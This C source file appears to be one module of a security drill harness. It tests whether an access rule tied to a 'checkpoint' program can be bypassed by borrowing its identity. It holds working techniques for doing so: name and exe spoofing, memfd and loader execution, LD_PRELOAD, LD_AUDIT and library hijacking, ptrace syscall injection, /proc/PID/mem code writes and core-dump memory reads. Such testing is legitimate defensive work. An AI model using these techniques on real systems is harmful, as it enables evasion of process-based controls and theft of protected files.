/* SPDX-License-Identifier: GPL-2.0-only */
/* H6, borrowed identity: to be taken for the checkpoint, or to act from within it. */
#include "attempt.h"

#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>

#define LOADER "/lib64/ld-linux-x86-64.so.2"

static const char *loader(void)
{
	static const char *const known[] = {LOADER, "/lib/ld-linux-aarch64.so.1", "/lib/ld-linux-riscv64-lp64d.so.1",
					    "/lib64/ld64.so.2", "/lib/ld64.so.1"};

	for (size_t i = 0; i < sizeof(known) / sizeof(*known); i++)
		if (!access(known[i], X_OK))
			return known[i];
	absent("no dynamic loader at a known place");
}

static char **plain(const char *program)	/* the words with which it goes for the target */
{
	static char *words[8];

	words[0] = (char *)program;
	words[1] = "plain";
	words[2] = text("goal=%s", given("goal"));
	words[3] = text("target=%s", perhaps("target", ""));
	words[4] = text("token=%s", perhaps("token", ""));
	return words;
}

TECHNIQUE("spoofed-name")	/* comm and argv[0] of the checkpoint */
{
	char **words = plain(given("checkpoint"));

	prctl(PR_SET_NAME, name_of(given("checkpoint")));
	fflush(stdout);
	execv("/proc/self/exe", words);
	failed("execve");
}

TECHNIQUE("copied")		/* the checkpoint's bytes under another inode; in=memfd: without a name */
{
	if (is("in", "memfd")) {
		int in = ok(open(given("checkpoint"), O_RDONLY), "open"), out = ok(memfd_create("pooler", 0), "memfd_create");
		char bytes[65536], *environment[] = {NULL};
		ssize_t size;

		while ((size = read(in, bytes, sizeof(bytes))) > 0)
			ok(write(out, bytes, size), "write");
		fexecve(out, plain(given("checkpoint")), environment);
		failed("fexecve");
	}
	copy_file(given("checkpoint"), scratch(name_of(given("checkpoint"))), 0755);
	run_program(plain(scratch(name_of(given("checkpoint")))));
}

TECHNIQUE("loader")		/* ld.so runs the checkpoint's file: the program that the kernel knows is ld.so */
{
	char **words = plain(given("checkpoint"));

	run_program((char *[]){(char *)loader(), words[0], words[1], words[2], words[3], words[4], NULL});
}

ROLE("bare")			/* a checkpoint in which nothing foreign ran */
{
	end(BLOCKED, "EACCES nothing foreign ran in the checkpoint");
}

static _Noreturn void run_with(const char *variable, const char *value, const char *role, const char *word)
{
	int status;
	pid_t child;

	fflush(stdout);
	child = ok(fork(), "fork");
	if (!child) {
		die_with_parent();
		setenv(variable, value, 1);
		setenv("NBSP_DRILL_TARGET", given("target"), 1);
		execl(given("checkpoint"), "checkpoint", role, word, NULL);
		failed("execve");
	}
	status = wait_for(child);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 127)
		end(BLOCKED, "EACCES the loader could not load the library");
	if (!WIFEXITED(status))
		broken("the checkpoint ended with wait status %#x", status);
	_exit(WEXITSTATUS(status));
}

TECHNIQUE("preload")		/* LD_PRELOAD */
{
	run_with("LD_PRELOAD", given("library"), "bare", NULL);
}

TECHNIQUE("audit-library")	/* LD_AUDIT */
{
	run_with("LD_AUDIT", given("library"), "bare", NULL);
}

TECHNIQUE("library-path")	/* LD_LIBRARY_PATH: a library that the checkpoint needs is found in our folder first */
{
	copy_file(given("library"), scratch("libdl.so.2"), 0755);
	run_with("LD_LIBRARY_PATH", given("scratch"), "bare", NULL);
}

TECHNIQUE("bound-library")	/* the foreign library bound over the system's, in mounts of our own */
{
	static const char *const known[] = {"/lib/x86_64-linux-gnu/libdl.so.2", "/lib/aarch64-linux-gnu/libdl.so.2",
					    "/lib64/libdl.so.2", "/usr/lib/libdl.so.2"};
	const char *found = NULL;

	for (size_t i = 0; i < sizeof(known) / sizeof(*known) && !found; i++)
		if (!access(known[i], R_OK))
			found = known[i];
	if (!found)
		absent("libdl.so.2 is at no known place");
	copy_file(given("library"), scratch("libdl.so.2"), 0755);
	own_mounts();
	mount_or_fail(scratch("libdl.so.2"), found, NULL, MS_BIND, NULL);
	run_with("NBSP_DRILL", "1", "bare", NULL);
}

TECHNIQUE("plugin")		/* the checkpoint is talked into loading a library of ours */
{
	run_with("NBSP_DRILL", "1", "load-library", text("library=%s", given("library")));
}

TECHNIQUE("alien-code")		/* the checkpoint runs code that is in no file, or in one of ours; from= by= as the role has them */
{
	run_program((char *[]){(char *)given("checkpoint"), "alien", text("target=%s", given("target")), text("from=%s", given("from")),
			       text("by=%s", given("by")), text("scratch=%s", given("scratch")), NULL});
}

/* -- from outside into the checkpoint's memory */

TECHNIQUE("memory-read")	/* by=process_vm | proc | ptrace: what the checkpoint has read */
{
	struct holder holder = start_holder("file");
	char bytes[256] = {0};
	ssize_t size = sizeof(bytes);

	if (is("by", "process_vm")) {
		struct iovec here = {bytes, sizeof(bytes)}, there = {(void *)holder.address, sizeof(bytes)};

		size = ok(process_vm_readv(holder.pid, &here, 1, &there, 1, 0), "process_vm_readv");
	} else if (is("by", "proc")) {
		int fd = ok(open(text("/proc/%d/mem", holder.pid), O_RDONLY), "open /proc/PID/mem");

		size = ok(pread(fd, bytes, sizeof(bytes), holder.address), "read of /proc/PID/mem");
	} else {
		ok(ptrace(PTRACE_ATTACH, holder.pid, 0, 0), "PTRACE_ATTACH");
		waitpid(holder.pid, NULL, __WALL);
		for (size_t at = 0; at < sizeof(bytes); at += sizeof(long)) {
			errno = 0;
			long word = ptrace(PTRACE_PEEKDATA, holder.pid, holder.address + at, 0);

			if (errno)
				failed("PTRACE_PEEKDATA");
			memcpy(bytes + at, &word, sizeof(word));
		}
	}
	show_bytes(bytes, strnlen(bytes, size));
	done();
}

TECHNIQUE("memory-write")	/* by=process_vm | proc: our words where the checkpoint has its own */
{
	struct holder holder = start_holder("file");
	char bytes[16] = "ours";
	struct iovec here = {bytes, 4}, there = {(void *)holder.address, 4};

	if (is("by", "process_vm"))
		ok(process_vm_writev(holder.pid, &here, 1, &there, 1, 0), "process_vm_writev");
	else
		ok(pwrite(ok(open(text("/proc/%d/mem", holder.pid), O_WRONLY), "open /proc/PID/mem"), bytes, 4, holder.address),
		   "write of /proc/PID/mem");
	done();
}

#ifdef __x86_64__
extern const unsigned char payload[], payload_end[];	/* roles.c */

/* One system call in a stopped process that waits in pause(2): its own instruction is used once more. */
static long call_there(pid_t pid, long call, long a, long b, long c)
{
	struct user_regs_struct before, registers;

	ok(ptrace(PTRACE_GETREGS, pid, 0, &before), "PTRACE_GETREGS");
	registers = before;
	registers.rip = before.rip - 2;
	registers.rax = call;
	registers.orig_rax = -1;
	registers.rdi = a;
	registers.rsi = b;
	registers.rdx = c;
	ok(ptrace(PTRACE_SETREGS, pid, 0, &registers), "PTRACE_SETREGS");
	ok(ptrace(PTRACE_SINGLESTEP, pid, 0, 0), "PTRACE_SINGLESTEP");
	waitpid(pid, NULL, __WALL);
	ok(ptrace(PTRACE_GETREGS, pid, 0, &registers), "PTRACE_GETREGS");
	before.orig_rax = -1;
	ok(ptrace(PTRACE_SETREGS, pid, 0, &before), "PTRACE_SETREGS");
	return registers.rax;
}

TECHNIQUE("debugger")		/* by=attach | seize | traceme: the checkpoint opens and reads the target at our command */
{
	struct holder holder = {0};
	const char *target = given("target"), *by = given("by");
	long fd, size;

	if (!strcmp(by, "traceme")) {
		fflush(stdout);
		holder.pid = ok(fork(), "fork");
		if (!holder.pid) {
			die_with_parent();
			ok(ptrace(PTRACE_TRACEME, 0, 0, 0), "PTRACE_TRACEME");
			execl(given("checkpoint"), "checkpoint", "idle", NULL);
			failed("execve");
		}
		int status;
		struct user_regs_struct registers;

		waitpid(holder.pid, &status, __WALL);		/* at its first instruction */
		if (!WIFSTOPPED(status))
			_exit(WIFEXITED(status) ? WEXITSTATUS(status) : BLOCKED);
		ok(ptrace(PTRACE_CONT, holder.pid, 0, 0), "PTRACE_CONT");
		usleep(100000);
		ok(kill(holder.pid, SIGSTOP), "kill SIGSTOP");
		waitpid(holder.pid, NULL, __WALL);
		ok(ptrace(PTRACE_GETREGS, holder.pid, 0, &registers), "PTRACE_GETREGS");
		holder.address = (registers.rsp - 8192) & ~15UL;
	} else {
		holder = start_holder("idle");
		if (!strcmp(by, "seize")) {
			ok(ptrace(PTRACE_SEIZE, holder.pid, 0, 0), "PTRACE_SEIZE");
			ok(ptrace(PTRACE_INTERRUPT, holder.pid, 0, 0), "PTRACE_INTERRUPT");
		} else {
			ok(ptrace(PTRACE_ATTACH, holder.pid, 0, 0), "PTRACE_ATTACH");
		}
		waitpid(holder.pid, NULL, __WALL);
	}
	for (size_t at = 0; at <= strlen(target); at += sizeof(long)) {
		char word[sizeof(long) + 1] = {0};

		strncpy(word, target + at, sizeof(long));
		ok(ptrace(PTRACE_POKEDATA, holder.pid, holder.address + at, *(long *)word), "PTRACE_POKEDATA");
	}
	fd = call_there(holder.pid, SYS_open, holder.address, O_RDONLY, 0);
	if (fd < 0) {
		errno = -fd;
		failed("open by the checkpoint");
	}
	size = call_there(holder.pid, SYS_read, fd, holder.address, 1024);
	for (long at = 0; at < size; at += sizeof(long)) {
		long word = ptrace(PTRACE_PEEKDATA, holder.pid, holder.address + at, 0);

		show_bytes(&word, sizeof(word));
	}
	done();
}

TECHNIQUE("code-write")		/* our code over the checkpoint's, through /proc/PID/mem, which heeds no page protection */
{
	struct holder holder = start_holder("idle");
	unsigned long at = 0;
	unsigned char code[256] = {0x48, 0xbf, [10] = 0x48, 0xbe};
	char line[256];
	int memory;
	FILE *file;

	usleep(20000);		/* until it waits */
	file = fopen(text("/proc/%d/syscall", holder.pid), "r");
	if (!file)
		failed("open /proc/PID/syscall");
	if (!fgets(line, sizeof(line), file))
		failed("read of /proc/PID/syscall");
	at = strtoul(strrchr(line, ' ') + 1, NULL, 16) - 2;
	memory = ok(open(text("/proc/%d/mem", holder.pid), O_RDWR), "open /proc/PID/mem");
	memcpy(code + 2, &holder.address, 8);
	unsigned long buffer = holder.address + 1024;

	memcpy(code + 12, &buffer, 8);
	memcpy(code + 20, payload, payload_end - payload);
	ok(pwrite(memory, given("target"), strlen(given("target")) + 1, holder.address), "write of /proc/PID/mem");
	ok(pwrite(memory, code, 20 + (payload_end - payload), at), "write of code");
	ok(kill(holder.pid, SIGSTOP), "kill SIGSTOP");
	usleep(20000);
	ok(kill(holder.pid, SIGCONT), "kill SIGCONT");
	usleep(100000);
	int status = wait_for(holder.pid);

	if (WIFSIGNALED(status))
		broken("the checkpoint died of signal %d", WTERMSIG(status));
	show(holder.out);
	_exit(WEXITSTATUS(status));
}
#else
TECHNIQUE("debugger")
{
	absent("the injection is written for x86-64");
}

TECHNIQUE("code-write")
{
	absent("the injection is written for x86-64");
}
#endif

TECHNIQUE("core-dump")		/* the checkpoint's memory in a file that the kernel writes for us */
{
	struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
	char pattern[256] = {0}, *core;
	int fd = ok(open("/proc/sys/kernel/core_pattern", O_RDONLY), "open core_pattern"), status;
	struct holder holder;

	ok(read(fd, pattern, sizeof(pattern) - 1), "read core_pattern");
	pattern[strcspn(pattern, "\n")] = 0;
	if (pattern[0] == '|' || strchr(pattern, '/') || strchr(pattern, '%'))
		absent("core_pattern is %s: the dump goes elsewhere", pattern);
	if (setrlimit(RLIMIT_CORE, &unlimited) < 0)
		absent("RLIMIT_CORE cannot be raised");
	ok(chdir(given("scratch")), "chdir");
	holder = start_holder("file");
	kill(holder.pid, SIGABRT);
	waitpid(holder.pid, &status, 0);
	core = text("%s", scratch(pattern));
	if (access(core, F_OK))
		core = text("%s.%d", core, holder.pid);
	if (access(core, F_OK))
		end(BLOCKED, "EACCES the checkpoint left no dump (wait status %#x)", status);
	show(ok(open(core, O_RDONLY), "open the dump"));
	done();
}

/* -- PR_SET_MM_EXE_FILE: /proc/PID/exe shows the checkpoint, the process is another */

#ifdef __x86_64__
static inline __attribute__((always_inline)) long raw(long call, long a, long b, long c, long d, long e)
{
	register long r10 asm("r10") = d;
	register long r8 asm("r8") = e;
	long result;

	asm volatile("syscall" : "=a"(result) : "0"(call), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
	return result;
}

struct spoof {
	unsigned long start, size;
	long exe, waits, answer;
	char target[512], ready[8], bytes[1024];
};

/* Runs from a page of its own while the program that it came from is unmapped; so it calls nothing and names nothing. */
__attribute__((noinline, noipa, section(".text.spoof"))) static void spoof(struct spoof *told)
{
	long fd, size;

	raw(SYS_munmap, told->start, told->size, 0, 0, 0);
	size = raw(SYS_prctl, PR_SET_MM, PR_SET_MM_EXE_FILE, told->exe, 0, 0);
	if (size < 0)
		raw(SYS_exit_group, size == -EPERM || size == -EACCES ? BLOCKED : BROKEN, 0, 0, 0, 0);
	if (told->waits) {
		raw(SYS_write, 1, (long)told->ready, 6, 0, 0);
		raw(SYS_read, 0, (long)told->bytes, 1, 0, 0);
	}
	fd = raw(SYS_open, (long)told->target, O_RDONLY, 0, 0, 0);
	if (fd < 0)
		raw(SYS_exit_group, fd == -EPERM || fd == -EACCES ? BLOCKED : BROKEN, 0, 0, 0, 0);
	size = raw(SYS_read, fd, (long)told->bytes, 1024, 0, 0);
	raw(SYS_write, 1, (long)told->bytes, size, 0, 0);
	raw(SYS_exit_group, 0, 0, 0, 0, 0);
}
#endif

TECHNIQUE("spoofed-exe")	/* when=now, or before: done before the rules, found by the scan of running processes */
{
#ifdef __x86_64__
	struct spoof *told = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char line[512], self[512] = {0};
	unsigned long long held = 0;
	FILE *maps = fopen("/proc/self/status", "r");

	if (told == MAP_FAILED)
		broken("mmap: %s", strerror(errno));
	while (maps && fgets(line, sizeof(line), maps))
		sscanf(line, "CapEff: %llx", &held);
	if (!(held >> 24 & 1))
		absent("root has no CAP_SYS_RESOURCE here");
	told->exe = ok(open(given("checkpoint"), O_RDONLY), "open the checkpoint");
	told->waits = is("when", "before");
	strcpy(told->ready, "ready\n");
	strncpy(told->target, given("target"), sizeof(told->target) - 1);
	memcpy((char *)told + 4096, (void *)spoof, 1024);
	ok(readlink("/proc/self/exe", self, sizeof(self) - 1), "readlink");
	maps = fopen("/proc/self/maps", "r");
	while (maps && fgets(line, sizeof(line), maps)) {
		unsigned long start, stop;

		if (strstr(line, self) && sscanf(line, "%lx-%lx", &start, &stop) == 2) {
			told->start = told->start ?: start;
			told->size = stop - told->start;
		}
	}
	fflush(stdout);
	((void (*)(struct spoof *))(void *)((char *)told + 4096))(told);
#endif
	absent("the code is for x86-64");
}
